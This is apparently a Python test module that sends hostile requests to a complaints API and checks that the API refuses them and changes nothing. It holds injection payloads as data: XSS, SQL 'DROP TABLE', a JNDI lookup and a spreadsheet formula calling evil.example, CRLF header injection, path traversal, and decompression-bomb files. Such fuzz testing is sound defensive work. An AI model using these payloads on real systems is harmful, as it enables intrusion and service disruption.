"""Hostile requests, made of what the document says of each operation, and what is wrong with their answers."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from hashlib import blake2b
from typing import Any
from urllib.parse import quote

import httpx2
from jsonschema import Draft202012Validator

from complaints.store.database import Database
from tests import papers
from tests.domain.test_sniffing import POLYGLOTS
from tests.gateway.api_world import ApiWorld, caller_of, ids_of
from tests.gateway.operations import FORM, JSON, PROBLEM, Operation

MARK = "zq7mark"
"""Stands in everything that is sent, and in no answer to what is refused."""
STORED = "zr8kept"
"""Stands in texts that may be stored; a number follows."""
DEEP = 40
LARGE = 1_000_001

WRONG_VALUES: Sequence[Any] = (
    *(None, True, 7, -1, 0.5, 10**30, -(10**30), 1e308, f"{MARK}", "", [], [[]], {}, {MARK: MARK}, [None], [MARK]),
)
TEXTS: Mapping[str, str] = {
    "a script": "<script>alert('{0}')</script>",
    "a script in an image": "\"><img src=x onerror=alert('{0}')>",
    "SQL": "'; DROP TABLE complaints; -- {0}",
    "a template": "{{{{7*7}}}} ${{7*7}} #{{7*7}} %s%s%n {0}",
    "a look-up": "${{jndi:ldap://evil.example/{0}}}",
    "a formula": '=HYPERLINK("http://evil.example","{0}")',
    "right to left": "\u202e{0}\u202c \u2066{0}\u2069",
    "invisible": "{0}\u200b\u200d\ufeff",
    "other planes": "{0} 𝒳🏚️👩‍🔧 \U000e0041",
    "another header": "{0}\r\nset-cookie: evil=1",
    "a path": "../../../../etc/{0}",
    "20,000 characters": "{0}" + "水" * 20_000,
}
"""Texts that may be refused or stored, and then as they were typed."""
UNTYPABLE: Mapping[str, str] = {"a NUL": "a\0{0}", "half a surrogate": "a\ud800{0}", "the other half": "{0}\udfff"}
"""Texts that no database can hold: always refused."""
HOSTILE_FILES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    **POLYGLOTS,
    "a bomb": ("a.docx", papers.bomb),
    "a bomb that says to be small": ("a.docx", lambda: papers.bomb(declared=1000)),
    "a workbook that is a bomb": ("a.xlsx", lambda: _workbook_bomb()),
    "a ZIP with parts in parts": ("a.docx", papers.hollow),
    "macros": ("a.docx", lambda: papers.word(word__vbaProject_bin=b"macro")),
    "half a letter": ("a.docx", lambda: papers.word()[:-30]),
    "a picture of absurd size": ("a.png", lambda: papers.png(65_000, 65_000)),
    "a program": ("a.exe", lambda: b"MZ\x90\x00" + b"\0" * 200),
    "a script": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>\n<script>alert(1)</script></svg>\n"),
    "another type than its name": ("a.pdf", papers.photo),
    "zeros": ("a.txt", lambda: b"\0" * 1_000),
    "nothing": ("a.txt", lambda: b""),
}
"""Files that no operation takes: each with a name."""
ODD_PARTS = (
    *(f"{MARK}%00", f"%FF%FE{MARK}", f"%ED%A0%80{MARK}", f"..%2F..%2Fetc%2F{MARK}", f"%2e%2e%2f{MARK}", "%20", "-1"),
    *(quote(f"<script>{MARK}", safe=""), quote(f"'; DROP TABLE complaints; -- {MARK}"), f"{MARK}%0d%0aset-cookie:x"),
    *(quote(f"\u202e{MARK}"), MARK + "A" * 20_000, "9" * 400, quote("钱女士" + MARK), f"{MARK}%25s%25n", "{{7*7}}"),
    *(f"{MARK};x=1", f"{MARK}%3Fa=b", "None", "Null", "NaN"),
)
"""Path parameters that no id looks like, quoted."""
ODD_QUERIES = (
    *ODD_PARTS,
    *("", "2026-13-45", "0000-00-00", "2026-02-30", "9999-12-31", "0001-01-01", "2026-W60", "2026-11-30T25:00:00Z"),
    *("1e400", "Infinity", "0x10", "٣", "9" * 30, "-" + "9" * 30, "0", "truee", "W10", "W1tbXV0", "bnVsbA", "e30"),
    *("W" + "1tb" * 150, "===", "%F0%9F%92%A9", "[]", "{}"),
)
"""Values of queries: dates that there are not, numbers, broken cursors."""
ODD_HEADERS: Mapping[str, Sequence[str]] = {
    "If-Match": (MARK, '"', '"1', "17", f'W/"{MARK}"', '"' + "9" * 400 + '"', '"1",', "W/", "\xff", '"a"b"'),
    "Idempotency-Key": ("", " ", MARK * 60, f"{MARK} {MARK}", "\xe9", f"{MARK}\t"),
    "If-None-Match": (MARK, '"', '"' + "9" * 400 + '"', "W/", "\xff", "*,*"),
}
"""Headers that operations document, with values that they do not take (`If-None-Match` takes any)."""


@dataclass(frozen=True)
class Attempt:
    """A hostile request, and which answers it may get: (status, code) pairs, or any refusal that is documented."""

    operation: Operation
    what: str
    url: str
    who: str = "supervisor"
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    content: bytes = b""
    wanted: frozenset[tuple[int, str]] | None = None
    may_succeed: bool = False
    hidden: tuple[str, ...] = ()
    """Texts that may not be in the answer or in the security log."""

    def __str__(self) -> str:
        return f"{self.operation.name}, {self.what}, as {self.who}"


AWAITED = re.compile(r"\b(wait)=(?:[1-9]|1\d|2[0-5])(?=&|$)")
"""Seconds of a long poll that would really be waited for."""


async def sent(world: ApiWorld, attempt: Attempt) -> httpx2.Response:
    """Send it, without the credential of the program if it has its own."""
    program = await world.program(attempt.who)
    headers = {name: value for name, value in program.headers.items() if name not in ("accept-encoding",)}
    headers |= {name.lower(): value for name, value in attempt.headers.items()}
    raw = [(name.encode(), value.encode("latin-1")) for name, value in headers.items()]
    url = AWAITED.sub(r"\1=0", attempt.url)
    target = f"{world.desk.house.parts.config.origin}{url}"
    return await world.sent(
        program, httpx2.Request(attempt.operation.method, target, headers=raw, content=attempt.content)
    )


def faults_of(attempt: Attempt, answer: httpx2.Response) -> list[str]:
    """What is wrong with the answer to a hostile request."""
    found, status = list[str](), answer.status_code
    if status >= 500:
        return [f"answered {status}"]
    said = answer.text + str(answer.headers.multi_items())
    if status < 400:
        if not attempt.may_succeed:
            found.append(f"is taken: {status} {answer.text[:200]}")
    else:
        found += _not_a_problem(attempt, answer)
        found += ["repeats what was sent"] if MARK in said or STORED in said else []
    found += [f"tells {hidden!r}" for hidden in attempt.hidden if hidden in said]
    found += ["sets a header that was sent"] if "evil" in str(answer.headers.get("set-cookie")) else []
    return found


def _not_a_problem(attempt: Attempt, answer: httpx2.Response) -> list[str]:
    if answer.headers.get("content-type") != PROBLEM:
        return [f"is no problem document: {answer.status_code} {answer.headers.get('content-type')}"]
    said = answer.json()
    code = (answer.status_code, str(said.get("code")))
    if not {"type", "title", "status", "code", "detail"} <= said.keys():
        return [f"is an incomplete problem: {said}"]
    if attempt.wanted is not None and code not in attempt.wanted:
        return [f"answered {code}, wanted {sorted(attempt.wanted)}: {said['detail']} {said.get('errors', '')}"]
    if attempt.wanted is None and code[1] not in attempt.operation.codes(code[0]):
        return [f"answered {code}, which the document does not have"]
    return []


# --- what has changed

VOLATILE = ("sessions", "looks", "sign_in_attempts", "attempts", "api_tokens", "device_grants")
"""Tables that remember that somebody asked."""


async def state(world: ApiWorld) -> dict[str, Any]:
    """A digest of each table, and the acts of each history: what a refused request may not change."""
    database: Database = world.desk.house.parts.stores.database
    async with database.transaction() as connection:
        names = [
            row["relname"]
            for row in await connection.fetch(
                "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace ORDER BY 1"
            )
            if row["relname"] not in VOLATILE
        ]
        each = " UNION ALL ".join(
            f"SELECT '{name}' AS name, md5(string_agg(t::text, '|' ORDER BY t::text)) AS digest FROM \"{name}\" t"
            for name in names
        )
        found: dict[str, Any] = {row["name"]: row["digest"] for row in await connection.fetch(each)}
    for key, work in world.desk.duly.cases.items():
        found[f"history of {key}"] = blake2b(repr(list(work.lines)).encode(), digest_size=8).hexdigest()
    return found


def differences(before: Mapping[str, Any], after: Mapping[str, Any]) -> list[str]:
    return sorted(name for name in before.keys() | after.keys() if before.get(name) != after.get(name))


async def faults(world: ApiWorld, attempts: Sequence[Attempt], unchanged: bool = True) -> list[str]:
    """Send all, and return what is wrong: with the answers, and with what they have changed.

    A case may go on by itself meanwhile, because a moment has come. So what has changed is tried again, one by one,
    and counts if it changes the second time too.
    """
    found = list[str]()
    before = await state(world) if unchanged else {}
    for attempt in attempts:
        answer = await sent(world, attempt)
        found += [f"{attempt}: {fault}" for fault in faults_of(attempt, answer)]
    if unchanged and differences(before, await state(world)):
        for attempt in attempts:
            if (changed := await _changed(world, attempt)) and await _changed(world, attempt):
                found.append(f"{attempt}: has changed {changed}")
    return found


async def _changed(world: ApiWorld, attempt: Attempt) -> list[str]:
    before = await state(world)
    await sent(world, attempt)
    return differences(before, await state(world))


# --- requests of the document's making


def example_of(operation: Operation) -> tuple[dict[str, str], bytes]:
    """Headers and content of a request as the document shows it: its first example."""
    if operation.takes_json:
        return {"content-type": JSON}, as_json(operation.examples[0])
    if FORM in operation.media:
        said = operation.media[FORM].get("example", {})
        return {"content-type": FORM}, "&".join(f"{name}={quote(value)}" for name, value in said.items()).encode()
    for media, said in operation.media.items():
        return {"content-type": media}, str(said.get("example", "x")).encode()
    return {}, b""


QUERIES = {"q": "wet", "period": "2026-11", "filename": "a.pdf", "project": "hf01", "year": "2026", "title": "t"}
"""Values of queries that are needed and for which the document has no example."""


def query_of(operation: Operation, said: Mapping[str, str] | None = None) -> str:
    """The query that the operation needs, with examples of the document, and what is said."""
    needed = {
        one.name: QUERIES.get(one.name) or str(_example(one.schema))
        for one in operation.parameters("query")
        if one.required
    }
    parts = [f"{name}={quote(value)}" for name, value in {**needed, **(said or {})}.items()]
    return f"?{'&'.join(parts)}" if parts else ""


def _example(schema: Mapping[str, Any]) -> Any:
    found = schema.get("examples") or schema.get("enum") or ["x"]
    return found[0]


def url_of(world: ApiWorld, operation: Operation, said: Mapping[str, str] | None = None) -> str:
    """The address of an operation with known ids, and a query."""
    return operation.url(ids_of(world, operation)) + query_of(operation, said)


def as_json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=True).encode()


def is_valid(operation: Operation, body: Any) -> bool:
    """Whether a body is one that the document describes."""
    schema = {**operation.body, "components": operation.document["components"]}
    return Draft202012Validator(schema).is_valid(body)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every value inside of a body, with the path to it."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, inner in items:
        yield (*path, name), inner
        yield from places(inner, (*path, name))


def changed(body: Any, path: Sequence[Any], new: Any) -> Any:
    """A copy of a body with another value at a path."""
    copy = json.loads(json.dumps(body))
    inner = copy
    for part in path[:-1]:
        inner = inner[part]
    inner[path[-1]] = new
    return copy


def without(body: Any, path: Sequence[Any]) -> Any:
    """A copy of a body without the field at a path."""
    copy = json.loads(json.dumps(body))
    inner = copy
    for part in path[:-1]:
        inner = inner[part]
    del inner[path[-1]]
    return copy


def shown(path: Iterable[Any]) -> str:
    return ".".join(map(str, path)) or "body"


Kind = Callable[[ApiWorld, Operation], Iterator[Attempt]]
"""Makes all attempts of one kind on an operation."""


def _json(world: ApiWorld, operation: Operation, what: str, body: Any, **more: Any) -> Attempt:
    who = caller_of(operation)
    content = body if isinstance(body, bytes) else as_json(body)
    return Attempt(
        operation, what, url_of(world, operation), who=who, headers={"content-type": JSON}, content=content, **more
    )


NO_ROUTE = frozenset({(404, "not-found")})
NO_TYPE = frozenset({(415, "content-type")})
"""What a file gets where nothing takes files."""
INVALID = frozenset({(422, "invalid")})


def wrong_types(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Every field of every example with values of other types, where the document does not allow them."""
    done = set[str]()
    for example in operation.examples:
        for path, there in [((), example), *places(example)]:
            for value in WRONG_VALUES:
                said = f"{shown(path)} is {json.dumps(value)[:40]}"
                if said in done or value == there:
                    continue
                body = changed(example, path, value) if path else value
                done.add(said)
                if not is_valid(operation, body):
                    yield _json(world, operation, said, body)


def missing_fields(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Every example without one of the fields that are needed."""
    done = set[str]()
    for example in operation.examples:
        for path, _ in places(example):
            body = without(example, path) if not isinstance(path[-1], int) else example
            said = f"{shown(path)} is missing"
            if said not in done and not is_valid(operation, body):
                done.add(said)
                yield _json(world, operation, said, body, wanted=INVALID if len(path) == 1 else None)


def unknown_fields(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Every example with a field that does not exist: in the body, and in what is inside of it."""
    for name in (MARK, "__proto__", "$ref", f"<script>{MARK}</script>", "", "a" * 2_000, "by_of_" + MARK):
        body = {**operation.examples[0], name: MARK}
        yield _json(world, operation, f"an unknown field {name[:20]!r}", body, wanted=INVALID)
    for path, inner in places(operation.examples[0]):
        if isinstance(inner, dict):
            body = changed(operation.examples[0], path, {**inner, MARK: MARK})
            if not is_valid(operation, body):
                yield _json(world, operation, f"an unknown field in {shown(path)}", body)


def no_json(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Bodies that are no JSON, or JSON in another encoding, or none that JSON has."""
    wanted = frozenset({(422, "invalid"), (400, "bad-request"), (400, "body-too-deep")})
    example = as_json(operation.examples[0])
    text = example.decode()
    bodies = {
        "half of it": example[: len(example) // 2],
        "two of it": example + example,
        "nothing": b"",
        "no JSON": MARK.encode(),
        "UTF-16": text.encode("utf-16"),
        "UTF-16 without a mark": text.encode("utf-16-le"),
        "UTF-32": text.encode("utf-32-be"),
        "not UTF-8": b'{"a": "\xff\xfe"}',
        "a NUL": example + b"\0",
        "a long number": b"1" * 5_000,
        "not a number": b"NaN",
        "a form": b"a=b&c=d",
        "comments": b"/* " + MARK.encode() + b" */" + example,
    }
    for what, body in bodies.items():
        yield _json(world, operation, what, body, wanted=wanted)
    for path, there in places(operation.examples[0]):
        if isinstance(there, int | float) and not isinstance(there, bool):
            body = as_json(changed(operation.examples[0], path, "@@"))
            for word in (b"NaN", b"Infinity", b"-Infinity", b"1" * 5_000, b"1e999"):
                yield _json(world, operation, f"{shown(path)} is {word[:9]!r}", body.replace(b'"@@"', word))


def envelopes(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Bodies of another type, compressed, too large, or nested too deeply."""
    headers, content = example_of(operation)
    url, who = url_of(world, operation), caller_of(operation)

    def attempt(what: str, status: int, code: str, body: bytes = content, **changes: str) -> Attempt:
        said = {**headers, **{name.replace("_", "-"): value for name, value in changes.items()}}
        return Attempt(operation, what, url, who, said, body, wanted=frozenset({(status, code)}))

    for coding in ("gzip", "br", "deflate", "zstd", "gzip, gzip", MARK):
        yield attempt(f"encoded as {coding}", 415, "content-encoding", content_encoding=coding)
    yield attempt("a length that is no number", 413, "body-too-large", content_length="9" * 30)
    if operation.takes_json:
        for kind in (
            "text/plain",
            "application/xml",
            f"application/json+{MARK}",
            "multipart/form-data; boundary=x",
            FORM,
        ):
            yield attempt(f"of type {kind}", 415, "content-type", content_type=kind)
        yield attempt("too large", 413, "body-too-large", b'"' + b"x" * LARGE + b'"')
        yield attempt("too large by its blanks", 413, "body-too-large", content + b" " * LARGE)
        for what, deep in {"lists": "[" * DEEP + "]" * DEEP, "objects": '{"a":' * DEEP + "1" + "}" * DEEP}.items():
            yield attempt(f"{what} in {what}", 400, "body-too-deep", deep.encode())
        yield attempt("100,000 brackets", 400, "body-too-deep", b"[" * 100_000)


def odd_parts(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Ids that are none, one parameter of the path after the other."""
    headers, content = example_of(operation)
    known = ids_of(world, operation)
    for one in operation.parameters("path"):
        for part in ODD_PARTS:
            url = operation.url({**known, one.name: part}) + query_of(operation)
            wanted = NO_ROUTE | NO_TYPE if "%2f" in part.lower() else None
            yield Attempt(operation, f"{one.name} is {part[:40]}", url, caller_of(operation), headers, content, wanted)


def odd_queries(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Values of queries that are none, and parameters that are said twice."""
    headers, content = example_of(operation)
    url = url_of(world, operation)
    for one in operation.parameters("query"):
        for value in ODD_QUERIES:
            target = f"{url}{'&' if '?' in url else '?'}{one.name}={value}"
            what = f"{one.name} is {value[:40]}"
            yield Attempt(operation, what, target, caller_of(operation), headers, content, None, True)


def odd_headers(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Headers that the operation documents, with values that they do not take."""
    headers, content = example_of(operation)
    for one in operation.parameters("header"):
        for value in ODD_HEADERS[one.name]:
            said = {**headers, one.name: value}
            harmless = one.name == "If-None-Match"
            what = f"{one.name} is {value[:20]!r}"
            yield Attempt(
                operation, what, url_of(world, operation), caller_of(operation), said, content, None, harmless
            )


def is_preview(operation: Operation) -> bool:
    """Whether the operation writes nothing: it answers with what it has found."""
    return operation.path.endswith(("/preview", "/check", "/similar"))


def files(world: ApiWorld, operation: Operation) -> Iterator[Attempt]:
    """Files that are bombs, two things at once, programs, cut off, or nothing."""
    for what, (name, make) in HOSTILE_FILES.items():
        content = make()
        for media in operation.files:
            said = {one.name: name for one in operation.parameters("query") if one.name in ("name", "filename")}
            url = url_of(world, operation, said)
            said = {"content-type": media}
            what_said, who = f"{what} as {media}", caller_of(operation)
            yield Attempt(operation, what_said, url, who, said, content, may_succeed=is_preview(operation))


UNIQUE = ("external_id", "text", "title")
"""Fields by which a thing is known: the same one again is the one that there is."""


def texts(world: ApiWorld, operation: Operation) -> Iterator[tuple[Attempt, str]]:
    """Every text of the examples as something hostile. Yields each attempt with the text."""
    done = set[str]()
    number = 0
    for example in operation.examples:
        for path, there in places(example):
            for what, text in {**TEXTS, **UNTYPABLE}.items():
                said = f"{shown(path)} is {what}"
                if not isinstance(there, str) or said in done:
                    continue
                done.add(said)
                number += 1
                typed = text.format(f"{STORED}{number}")
                body = changed(example, path, typed)
                body |= {name: f"# t{number}" for name in UNIQUE if name in body and name != path[-1]}
                yield _json(world, operation, said, body, may_succeed=what not in UNTYPABLE), typed


def _workbook_bomb() -> bytes:
    sheet = b"<worksheet><sheetData>" + b"<row><c><v>1</v></c></row>" * 2_500_000 + b"</sheetData></worksheet>"
    return papers.packed(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet}
    )


# --- what is stored


async def rows_with(world: ApiWorld, typed: str) -> AsyncIterator[Any]:
    """Every row of the database that has the mark of a text."""
    mark = re.search(rf"{STORED}\d+", typed)
    assert mark is not None
    database: Database = world.desk.house.parts.stores.database
    async with database.transaction() as connection:
        names = await connection.fetch(
            "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace"
        )
        each = " UNION ALL ".join(
            f"SELECT to_jsonb(t)::text AS row FROM \"{name['relname']}\" t WHERE t::text ~ '{mark[0]}(?!\\d)'"
            for name in names
        )
        for row in await connection.fetch(each):
            yield json.loads(row["row"])


def strings(value: Any) -> Iterator[str]:
    """Every text inside of a value, also of JSON inside of a text."""
    if isinstance(value, str):
        yield value
        if value[:1] in ("{", "["):
            with suppress(ValueError):
                yield from strings(json.loads(value))
    elif isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from strings(inner)
